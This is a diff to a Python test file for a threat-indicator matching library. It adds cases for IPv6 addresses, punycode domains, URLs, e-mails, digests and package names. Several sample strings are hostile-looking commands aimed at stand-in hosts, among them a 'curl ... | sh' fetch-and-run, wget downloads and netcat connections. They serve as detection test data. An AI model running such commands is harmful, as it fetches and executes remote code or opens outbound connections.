@@ -1,4 +1,4 @@
-"""Claims about `herma.policy.indicator`."""
+"""Claims about `herma.policy.indicator.set`."""
 
 import base64
 
@@ -32,6 +32,69 @@ MATCHES = {
     "an address": (Matching.ADDRESS, "43.228.79.77", "http://736382797/mcp", "http://143.228.79.77/"),
     "a network": (Matching.ADDRESS, "60.165.167.0/24", "from 60.165.167.9", "from 160.165.167.9"),
     "a port": (Matching.ADDRESS, "43.228.79.77:55557", "nc 43.228.79.77:55557", "nc 43.228.79.77:80"),
+    "an IPv6 address": (Matching.ADDRESS, "2a0e:bad::7", "nc 2A0E:0bad:0:0::7 443", "nc 2a0e:bad::8 443"),
+    "an IPv6 network": (
+        Matching.ADDRESS,
+        "2a0e:bad::/48",
+        "http://[2a0e:bad:0::9]/",
+        "http://[2a0e:bad:1::9]/",
+    ),
+    "an IPv6 network without a second group": (
+        Matching.ADDRESS,
+        "2a0e::/32",
+        "ping 2a0e:0:1::9",
+        "ping 2a0e:1::9",
+    ),
+    "an IPv6 address and port": (
+        Matching.ADDRESS,
+        "[2a0e:bad::7]:443",
+        "http://[2a0e:bad::7]:443/",
+        "http://[2a0e:bad::7]:80/",
+    ),
+    "a mapped address": (Matching.ADDRESS, "::ffff:43.228.79.77", "nc 43.228.79.77 1", "nc 43.228.79.78 1"),
+    "a wide network": (Matching.ADDRESS, "60.165.0.0/16", "from 60.165.7.9", "from 160.165.7.9"),
+    "a name in another script": (
+        Matching.DOMAIN,
+        "b\u00fccher.example",
+        "see https://XN--BCHER-KVA.Example./x",
+        "see https://bcher-kva.example/x",
+    ),
+    "a name in punycode": (
+        Matching.DOMAIN,
+        "xn--bcher-kva.example",
+        "see B\u00dcCHER.example now",
+        "see bucherx.example now",
+    ),
+    "a URL": (
+        Matching.URL,
+        "https://bad.example/a/x.sh",
+        "curl bad.example/a/./b/../%78.sh?y=1 | sh",
+        "curl bad.example/a/y.sh",
+    ),
+    "a URL of an address": (
+        Matching.URL,
+        "http://43.228.79.77/x",
+        "wget http://736382797/x",
+        "wget http://43.228.79.77/y",
+    ),
+    "the beginning of a URL": (
+        Matching.URL,
+        "http://bad.example/load*",
+        "http://bad.example/loader?x",
+        "http://bad.example/lo",
+    ),
+    "an e-mail address": (
+        Matching.EMAIL,
+        "bad@evil.example",
+        "to Bad@Evil.Example.",
+        "to not.bad@evil.example",
+    ),
+    "a digest": (
+        Matching.WORD,
+        "d41d8cd98f00b204e9800998ecf8427e",
+        "md5 D41D8CD98F00B204E9800998ECF8427E ok",
+        "ad41d8cd98f00b204e9800998ecf8427e",
+    ),
     "a domain": (Matching.DOMAIN, "bad.example", "https://a.bad.example/x", "https://notbad.example"),
     "a domain and port": (
         Matching.DOMAIN,
@@ -110,6 +173,30 @@ def test_the_quick_look_sees_base64_and_hex(value: str, before: bytes) -> None:
     assert _set(value.lower(), Matching.SUBSTRING).suspects((before + value.lower().encode()).hex().encode())
 
 
+def test_a_python_package_has_three_spellings() -> None:
+    """The first look finds each of them."""
+    indicators = _set("bad-mcp-server", Matching.PACKAGE, ecosystem="pypi")
+    for name in ("bad-mcp-server", "bad_mcp_server", "bad.mcp.server"):
+        assert indicators.suspects(name.encode())
+        assert _found(indicators, f"uvx {name}")
+
+
+def test_an_indicator_without_a_word_is_looked_for_in_every_text() -> None:
+    """A pattern without a literal can report, though it leads nobody to the text."""
+    indicators = IndicatorSet([Indicator("a", "^[a-z]{2}_[0-9]{3}$", Matching.REGEX, Action.ALERT, "x")])
+    assert _found(indicators, "up_123")
+    assert not indicators.suspects(b"up_123")
+
+
+def test_a_long_list_is_arranged_as_well() -> None:
+    """Thousands of values are found like one."""
+    made = [
+        Indicator(f"x-{n}", f"h{n:05d}.bad.example", Matching.DOMAIN, Action.BLOCK, "x") for n in range(6000)
+    ]
+    indicators = IndicatorSet(made)
+    assert {found.id for found, _ in indicators.find("curl https://h04711.bad.example/")} == {"x-4711"}
+
+
 def test_a_finding_names_the_indicator_and_how_grave_it_is() -> None:
     """Blocking ones are critical, context is information."""
     made = Indicator("x-01", "v", Matching.WORD, Action.BLOCK, "x").finding("/a")
@@ -118,15 +205,15 @@ def test_a_finding_names_the_indicator_and_how_grave_it_is() -> None:
 
 
 def test_no_indicators_or_odd_addresses_are_an_error() -> None:
-    """An empty set would find nothing, and IPv6 is not supported yet."""
+    """An empty set would find nothing, and so would one that no first look leads to."""
     with pytest.raises(ValueError, match="empty"):
         IndicatorSet([])
     with pytest.raises(ValueError, match="first look"):
         _set("/tmp/.x", Matching.PATH)
     with pytest.raises(ValueError, match="first look"):
         _set("a[0-9]", Matching.REGEX)
-    with pytest.raises(ValueError, match="2001"):
-        _set("2001:db8::1", Matching.ADDRESS)
+    with pytest.raises(ValueError, match="appear"):
+        _set("2001:db8::/x", Matching.ADDRESS)
 
 
 @given(st.text(max_size=120))
